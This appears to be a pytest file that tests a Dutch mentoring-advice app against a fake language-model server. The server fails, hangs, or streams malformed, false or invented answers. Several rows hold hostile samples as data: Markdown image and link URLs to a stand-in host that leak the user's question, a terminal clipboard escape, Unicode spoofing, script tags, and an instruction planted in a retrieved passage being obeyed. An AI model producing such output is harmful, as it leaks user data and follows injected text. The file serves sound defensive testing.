"""Answers by a model that misbehaves: nothing false is served, nothing hangs, nothing leaks."""

from __future__ import annotations

import gzip
import json
import logging
import time
from collections.abc import Callable
from typing import NamedTuple

import pytest
from conftest import MakeCoach
from fake_model import (
    KEY,
    Behaviour,
    Handler,
    Request,
    completes,
    event,
    fails,
    hangs,
    raw,
    sends,
    serving,
    streams,
    whole,
)

from coach.records import Answer

QUESTION = "Hoe lang wacht ik met een herinnering als mijn mentor stil blijft?"
TRUE = "Stuur pas na twee weken een herinnering, want je mentor heeft het vaak gewoon druk."
ALSO = "Hoor je daarna nog niets, bel dan de coördinator."
SHOWN = "Wacht twee weken voor je een herinnering stuurt."  # of the extractive answer


def said(*texts: str, n: str = "[{}]") -> Callable[[Request], str]:
    """A reply of sentences that each cite the passage on waiting."""
    return lambda request: " ".join(f"{text} {n.format(request.passage('Wacht twee weken'))}" for text in texts)


def refuses_unless(free: Callable[[Request], bool], then: Behaviour, status: int = 400, message: str = "") -> Behaviour:
    """A server that refuses until a request no longer has what it does not take."""

    def behave(handler: Handler, request: Request) -> None:
        (then if free(request) else fails(status, message))(handler, request)

    return behave


def has_system(request: Request) -> bool:
    """Whether a request has a system message."""
    return any(message["role"] == "system" for message in request.body["messages"])


def streams_only_if_asked(text: Callable[[Request], str]) -> Behaviour:
    """Streams or completes, as the request says."""

    def behave(handler: Handler, request: Request) -> None:
        (streams(text) if request.body.get("stream") else completes(text(request)))(handler, request)

    return behave


def drips(handler: Handler, _request: Request) -> None:
    """One byte at a time, for ever."""
    handler.open_stream()
    for _ in range(100):
        handler.send(" ")
        time.sleep(0.1)


def never_ends(handler: Handler, request: Request) -> None:
    """The same sentence for ever, as fast as it can."""
    handler.open_stream()
    text = f"{TRUE} [{request.passage('Wacht twee weken')}] "
    for _ in range(100_000):
        handler.send(event({"content": text}))


def breaks_off(handler: Handler, request: Request) -> None:
    """A true sentence, half of the next, and the connection is gone."""
    handler.open_stream()
    handler.send(event({"content": f"{TRUE} [{request.passage('Wacht twee weken')}] Bel daarna ook elke dag"}))
    handler.wfile.flush()
    handler.connection.close()


class Row(NamedTuple):
    """A way to misbehave, who composes the answer then, what may never be read in it, and what the notice says."""

    behave: Behaviour
    composer: str
    never: tuple[str, ...] = ()
    notice: str = ""


def dropped(*wrong: str) -> Row:
    """True sentences around wrong ones: the wrong are left out."""
    return Row(streams(said(TRUE, *wrong, ALSO)), "model", wrong, "Weggelaten")


def blanks(handler: Handler) -> None:
    """Nothing but white space, as fast as it can."""
    handler.open_stream()
    while True:
        handler.send(event({"content": " "}))


BOTH = said(TRUE, ALSO)
END = event({}, "stop") + "data: [DONE]\n\n"
MISBEHAVES = {
    # the server
    "wrong key": Row(fails(401), "extractive", notice="sleutel is niet geaccepteerd"),
    "key echoed in the error": Row(fails(403, f"Incorrect API key provided: {KEY}"), "extractive", notice="sleutel"),
    "unknown model": Row(fails(404), "extractive", notice="kent het model openai:klein niet"),
    "429 with a long wait": Row(fails(429, Retry_After="60"), "extractive", notice="te druk"),
    "500": Row(fails(500), "extractive", notice="storing"),
    "no credit": Row(fails(402), "extractive", notice="tegoed"),
    "redirects elsewhere": Row(fails(307, Location="http://127.0.0.2:1/v1"), "extractive", notice="verwijst door"),
    "400 whatever is asked": Row(fails(400), "extractive", notice="weigert het verzoek"),
    "hangs before the headers": Row(hangs, "extractive", notice="COACH_MODEL_TIMEOUT"),
    "hangs in the stream": Row(sends(event({"content": "Wacht "}), hang=6), "extractive", notice="COACH_MODEL_TIMEOUT"),
    "drips for ever": Row(drips, "extractive", notice="COACH_MODEL_TIMEOUT"),
    "never ends": Row(never_ends, "model"),
    "breaks off": Row(breaks_off, "extractive", ("Bel daarna ook elke dag",), "brak af"),
    "ends without its last event": Row(sends(event({"content": "Wacht drie weken. [1]"})), "extractive", ("drie",), "brak af"),
    "empty reply": Row(streams(""), "extractive", notice="leeg antwoord"),
    "only thoughts": Row(streams("<think>Ik denk dat je drie weken wacht. [1]"), "extractive", ("drie",), "leeg antwoord"),
    "invalid UTF-8": Row(sends(b'data: {"choices": [{"delta": {"content": "\xff\xfe\x80"}}]}\n\n'), "extractive"),
    "an event that is no JSON": Row(sends("data: {half\n\n"), "extractive", notice="geen modelantwoord"),
    "an HTML page": Row(lambda handler, _: handler.reply(200, "<html>Log in</html>", "text/html"), "extractive", ("Log in",)),
    "no choices": Row(sends(event(None), "data: [DONE]\n\n"), "extractive"),
    "content null": Row(lambda handler, _: handler.reply(200, json.dumps(whole({"role": "assistant", "content": None}))),
                        "extractive", notice="leeg"),
    "a tool call": Row(sends(event({"tool_calls": [{"index": 0, "id": "a", "type": "function", "function": {
        "name": "mail", "arguments": '{"to": "a@b.nl"}'}}]}), event({}, "tool_calls"), "data: [DONE]\n\n"), "extractive"),
    # the reply, served whole
    "usage is not counted": Row(streams(said(TRUE, ALSO), usage=False), "model"),
    "thinks aloud first": Row(streams(lambda r: f"<think>Drie weken? Nee.</think>\n{said(TRUE)(r)}"), "model", ("Drie",)),
    "answers a stream in one piece": Row(lambda h, r: completes(said(TRUE)(r))(h, r), "model"),
    "refuses to stream": Row(refuses_unless(lambda r: not r.body.get("stream"), streams_only_if_asked(said(TRUE)), 400,
                                            "stream is not supported"), "model"),
    "refuses the system role": Row(refuses_unless(lambda r: not has_system(r), streams(said(TRUE)), 400,
                                                  "System role not supported"), "model"),
    "refuses stream_options": Row(refuses_unless(lambda r: "stream_options" not in r.body, streams(said(TRUE)), 422), "model"),
    "content as a list": Row(lambda h, r: h.reply(200, json.dumps(whole({"role": "assistant", "content": [
        {"type": "text", "text": said(TRUE)(r)}]}))), "model"),
    "marks as 【1】": Row(streams(said(TRUE, n="【{}】")), "model"),
    "marks before the full stop": Row(streams(lambda r: said(TRUE)(r).replace(". [", " [") + "."), "model"),
    "no marks at all": Row(streams(lambda _: f"{TRUE} {ALSO}"), "model"),
    "a list in Markdown": Row(streams(lambda r: f"- **{TRUE}** [{r.passage('Wacht twee')}]\n- {ALSO}"), "model", ("**",)),
    "ends without a last line": Row(raw(lambda r: event({"content": BOTH(r)}) + event({}, "stop")), "model"),
    "ends and stays on the line": Row(raw(lambda r: event({"content": BOTH(r)}) + event({}, "stop"), hang=8), "model"),
    "keeps the line alive with comments": Row(raw(": wait\r\n\r\n:\r\n\r\n", lambda r: event({"content": BOTH(r)}) + END),
                                              "model"),
    "answers in gzip": Row(lambda h, r: h.reply(200, gzip.compress((event({"content": BOTH(r)}) + END).encode()),
                                                "text/event-stream", Content_Encoding="gzip"), "model"),
    "speaks HTTP 1.0": Row(raw(lambda r: event({"content": BOTH(r)}) + END, head="HTTP/1.0 200 OK\r\n\r\n"), "model"),
    "sends one huge event": Row(raw(lambda r: event({"content": BOTH(r) + " " * 200_000}) + END), "model"),
    "counts more tokens than there are": Row(raw(lambda r: event({"content": BOTH(r)}) + event({}, "stop") + event(
        None, usage={"prompt_tokens": 10**30, "completion_tokens": -5, "total_tokens": 1}) + "data: [DONE]\n\n"), "model"),
    "reasons in a field of its own": Row(raw(lambda r: event({"reasoning_content": "Drie weken."}) + event({"content": BOTH(r)})
                                             + END), "model", ("Drie",)),
    "thinks under other names": Row(streams(lambda r: f"<THINKING>Drie weken?</THINKING>\n[THINK]Drie.[/THINK]{BOTH(r)}"),
                                    "model", ("Drie",)),
    "thinks in a channel": Row(streams(lambda r: "<|channel|>analysis<|message|>Drie weken?<|end|><|start|>assistant"
                                       f"<|channel|>final<|message|>{BOTH(r)}<|return|>"), "model", ("Drie", "<|")),
    "only closes its thoughts": Row(streams(lambda r: f"Noem geen verwijten. [1] Drie weken dan maar? Nee.\n</think>\n{BOTH(r)}"),
                                    "model"),
    "leaves its template in": Row(streams(lambda r: f"{BOTH(r)}<|im_end|></s>"), "model", ("<|", "</s>")),
    "headings": Row(streams(lambda r: f"## Wachten\n\n**Daarna**\n\n{BOTH(r)}\n\n**Bronnen:**\n[1] Als je niets hoort › Wachten"),
                    "model", ("Daarna", "Bronnen", "hoort › Wachten. [")),
    "code around it": Row(streams(lambda r: f"```markdown\n{BOTH(r)}\n```"), "model", ("markdown", "```")),
    "quotation marks around it": Row(streams(lambda r: f"“{BOTH(r)}”"), "model", ("“Stuur",)),
    "wide marks": Row(streams(said(TRUE, ALSO, n="［{}］")), "model", ("［",)),
    "marks as links": Row(streams(said(TRUE, ALSO, n="[[{}]](#passage)")), "model", ("#passage",)),
    "marks with backslashes": Row(streams(said(TRUE, ALSO, n="\\[{}\\]")), "model", ("\\[",)),
    "footnotes": Row(streams(lambda r: said(TRUE, ALSO, n="[^{}]")(r) + "\n\n[^1]: Als je niets hoort › Wachten"), "model",
                     ("[^", "Wachten. [")),
    "plain HTML": Row(streams(lambda r: f"<p><b>Kort:</b> {said(TRUE)(r)}</p><br>{said(ALSO)(r)}&nbsp;"), "model",
                      ("<", "&nbsp")),
    "pictures for bullets": Row(streams(lambda r: "✅ {} [{n}]\n📞 {} [{n}]".format(TRUE, ALSO, n=r.passage("Wacht twee"))),
                                "model", ("✅", "📞")),
    "underscores": Row(streams(lambda r: f"_{TRUE}_ [{r.passage('Wacht twee')}] {ALSO}"), "model", ("_Stuur",)),
    "soft hyphens": Row(streams(lambda r: BOTH(r).replace("herinnering", "herin\u00adne\u200bring")), "model",
                        ("\u00ad", "\u200b")),
    # the reply, not to be read
    "half a surrogate": Row(raw(lambda r: event({"content": f"{BOTH(r)} Wacht \ud83d dan."}) + END), "model", ("\ud83d",)),
    "a connection reset inside a mark": Row(raw(lambda r: event({"content": f"{TRUE} [{r.passage('Wacht twee')}"}), reset=True),
                                            "extractive", (TRUE,)),
    "a filter cuts it off": Row(raw(lambda r: event({"content": f"{said(TRUE)(r)} Hoor je daarna nog niets, bel"})
                                    + event({}, "content_filter") + "data: [DONE]\n\n"), "model", ("nog niets, bel",)),
    "JSON around it": Row(streams(lambda r: json.dumps({"answer": BOTH(r)})), "extractive", ('{"answer', '{\\"answer')),
    "an error under a 200": Row(lambda h, _: h.reply(200, json.dumps({"error": {"message": KEY}})), "extractive",
                                notice="geen modelantwoord"),
    "blanks for ever": Row(lambda h, _: blanks(h), "extractive", notice="COACH_MODEL_TIMEOUT"),
    "a table": Row(streams(lambda r: f"| Stap | Wat |\n|---|---|\n| 1 | {said(TRUE)(r)} |"), "extractive", ("|",)),
    "terminal codes": dropped("Wacht twee weken \x1b]52;c;aGFsbG8=\x07 voor je een herinnering stuurt."),
    "text that runs the other way": dropped("Wacht twee \u202enekew\u202c voor je een herinnering stuurt."),
    "invisible letters": dropped("Wacht twee weken\U000e0041 voor je een herinnering stuurt."),
    "a letter that looks like another": dropped("Wacht vi\u0435r weken voor je een herinnering stuurt."),
    "a number in a circle": dropped("Wacht ④ weken voor je een herinnering stuurt."),
    "another script half way": dropped("Wacht twee weken 因为你的导师很忙 voor je een herinnering stuurt."),
    "an address without a scheme": dropped("Wacht twee weken, zie boos.technology voor je een herinnering stuurt."),
    "an address in other letters": dropped("Wacht twee weken, zie bóós.nl voor je een herinnering stuurt."),
    "an address with a hidden joint": Row(streams(said(TRUE, "Wacht twee weken, zie boos\u200b.nl voor je herinnering.", ALSO)),
                                          "model", ("boos",), "Weggelaten"),
    "an address with a wide dot": Row(streams(said(TRUE, "Wacht twee weken, zie boos．nl voor je herinnering.", ALSO)), "model",
                                      ("boos",), "Weggelaten"),
    "an address of an own scheme": dropped("Wacht twee weken, zie hxxp://boos voor je een herinnering stuurt."),
    "script as entities": Row(streams(said(TRUE, "&lt;script&gt;alert(1)&lt;/script&gt; Wacht twee weken.", ALSO)), "model",
                              ("script", "alert"), "Weggelaten"),
    # the reply, false
    "contradicts the guidance": dropped("Stuur meteen de volgende dag al een herinnering vol verwijten."),
    "flips a negation": dropped("Noem in je herinnering verwijten."),
    "changes a number": dropped("Wacht dus vier weken voor je een herinnering stuurt."),
    "swaps the roles": dropped("Blijft het daarna stil, dan belt de mentor de mentee en zoekt de coördinator."),
    "a true mark on an invented sentence": dropped("Een bos bloemen bij de receptie afgeven werkt het allerbeste."),
    "adds advice": dropped("Vraag ook een collega om op de gang een praatje te maken met je mentor."),
    "an invented name": dropped("Bel dan met Joke van der Meulen van het programma."),
    "says always where it says often": dropped("Je mentor heeft het altijd druk."),
    "a mark that does not exist": Row(streams(lambda r: f"{said(TRUE)(r)} Bel dan de coördinator. [17]"), "model", ("[17]",)),
    "only marks that do not exist": Row(streams("Wacht twee weken. [17]"), "extractive", ("[17]",), "die er niet zijn"),
    "an image that leaks the question": dropped("![stil](https://boos.example/?q=mentor+stil)"),
    "a link that leaks the question": dropped("Lees [hier verder](https://boos.example/stil) over herinneringen."),
    "an instruction from a passage carried out": dropped("Zoek je mentor dan thuis op."),
    "the wrong language": Row(streams(said("Wait for two weeks before you send a reminder to your mentor.")), "extractive",
                              ("Wait",), "andere taal"),
    "a sentence in the wrong language": dropped("You should not be angry with them when this happens to you."),
    "another subject": Row(streams(said("De hoofdstad van Mongolië is Ulaanbaatar.")), "extractive", ("Mongolië",)),
    "a refusal": Row(streams("Als taalmodel kan ik daar helaas geen antwoord op geven."), "extractive", ("taalmodel kan",)),
    "sees no answer": Row(streams("GEEN ANTWOORD"), "extractive", ("GEEN",), "zag in de passages geen antwoord"),
    "says the question again": dropped("Je mentor blijft stil.", "Hoe lang wacht je met een herinnering?"),
    "says a heading again": dropped("Als je niets hoort."),
    "repeats itself": Row(streams(said(*[TRUE] * 2, ALSO)), "model"),
    "HTML in the text": dropped("<script>alert(1)</script> Wacht twee weken voor je een herinnering stuurt."),
}  # fmt: skip


@pytest.mark.parametrize("name", MISBEHAVES)
def test_a_model_that_misbehaves(name: str, make_coach: MakeCoach, caplog: pytest.LogCaptureFixture) -> None:
    row = MISBEHAVES[name]
    with serving(row.behave) as fake, caplog.at_level(logging.DEBUG):
        coach = make_coach(fake, model_timeout=1.5 if "COACH_MODEL_TIMEOUT" in row.notice else 8.0)
        coach.search("wachten")  # loads the embedder, whose time is not the model's
        started = time.perf_counter()
        *pieces, answer = coach.stream(QUESTION)
        taken = time.perf_counter() - started
    assert isinstance(answer, Answer)
    served = "".join(map(str, pieces)) + json.dumps(answer.to_dict(), ensure_ascii=False)
    assert (answer.composer, [text for text in (*row.never, KEY, "Traceback") if text in served]) == (row.composer, [])
    assert row.notice in answer.notice and (answer.composer == "model" or SHOWN in answer.answer)
    assert answer.answer.count("twee weken") == 1 and answer.citations and KEY not in caplog.text
    assert taken < 8.0
    assert all("thuis moet opzoeken" not in request.text for request in fake.requests)
